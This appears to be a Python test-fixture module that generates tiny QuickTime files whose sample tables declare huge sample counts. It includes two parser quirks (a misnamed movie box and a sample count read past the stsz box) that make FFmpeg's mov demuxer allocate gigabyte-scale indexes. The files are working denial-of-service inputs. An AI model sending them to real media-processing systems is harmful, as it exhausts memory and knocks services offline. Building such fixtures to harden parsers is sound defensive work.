"""Small QuickTime files whose sample tables declare far more samples than the file holds: the
shape of a body that makes FFmpeg's mov demuxer build an index of gigabytes from kilobytes."""

from __future__ import annotations

import struct
from collections.abc import Sequence


def box(kind: bytes, *children: bytes) -> bytes:
    body = b"".join(children)
    return struct.pack(">I", 8 + len(body)) + kind + body


def full_box(kind: bytes, payload: bytes) -> bytes:
    return box(kind, b"\0\0\0\0", payload)


def table(kind: bytes, rows: Sequence[tuple[int, ...]]) -> bytes:
    packed = b"".join(struct.pack(f">{len(row)}I", *row) for row in rows)
    return full_box(kind, struct.pack(">I", len(rows)) + packed)


def pcm_entry() -> bytes:
    """A 'sowt' (16-bit little-endian PCM) sample description, 16 kHz mono."""
    return box(
        b"sowt",
        b"\0" * 6 + struct.pack(">H", 1),
        struct.pack(">HHIHHHHI", 0, 0, 0, 1, 16, 0, 0, 16_000 << 16),
    )


def audio_track(samples: int, sample_sizes_box: bytes | None = None) -> bytes:
    """One track whose tables declare `samples` samples of one byte each (1024 ticks long, so
    FFmpeg indexes them one by one) in one chunk."""
    stbl = [
        full_box(b"stsd", struct.pack(">I", 1) + pcm_entry()),
        table(b"stts", [(samples, 1024)]),
        table(b"stsc", [(1, samples, 1)]),
        table(b"stco", [(48,)]),
        sample_sizes_box or full_box(b"stsz", struct.pack(">II", 1, samples)),
    ]
    mdhd = full_box(b"mdhd", struct.pack(">IIIIHH", 0, 0, 16_000, samples, 0, 0))
    hdlr = full_box(b"hdlr", struct.pack(">I4s12s", 0, b"soun", b"\0" * 12) + b"\0")
    minf = box(b"minf", full_box(b"smhd", b"\0" * 4), box(b"stbl", *stbl))
    tkhd = full_box(b"tkhd", struct.pack(">IIIII", 0, 0, 1, 0, samples) + b"\0" * 60)
    return box(b"trak", tkhd, box(b"mdia", mdhd, hdlr, minf))


def movie(*tracks: bytes, after_moov: bytes = b"") -> bytes:
    mvhd = full_box(b"mvhd", struct.pack(">IIII", 0, 0, 1000, 1000) + b"\0" * 80)
    head = box(b"ftyp", b"qt  ", b"\0\0\0\0", b"qt  ")
    return head + box(b"mdat", b"\0" * 64) + box(b"moov", mvhd, *tracks) + after_moov


def fragment(samples: int) -> bytes:
    """A movie fragment whose one run declares `samples` samples with no per-sample fields."""
    header = full_box(b"tfhd", struct.pack(">I", 1))
    run = full_box(b"trun", struct.pack(">I", samples))
    return box(b"moof", full_box(b"mfhd", struct.pack(">I", 1)), box(b"traf", header, run))


def movie_box_by_another_name(samples: int, name: bytes = b"hoov") -> bytes:
    """No moov: FFmpeg takes a box whose first child is mvhd (`hoov`, or `free` on a retry)
    for the movie (found by an attack in session 40)."""
    mvhd = full_box(b"mvhd", struct.pack(">IIII", 0, 0, 1000, 1000) + b"\0" * 80)
    head = box(b"ftyp", b"qt  ", b"\0\0\0\0", b"qt  ")
    return head + box(b"mdat", b"\0" * 64) + box(name, mvhd, audio_track(samples))


def count_read_past_the_box(samples: int) -> bytes:
    """A stsz box with no count field, last in its track: FFmpeg reads the count from the
    size field of the box after it (found by an attack in session 40)."""
    track = audio_track(16, sample_sizes_box=full_box(b"stsz", struct.pack(">I", 1)))
    after = struct.pack(">I4s", samples, b"free") + b"\0" * 8
    return movie(track + after)
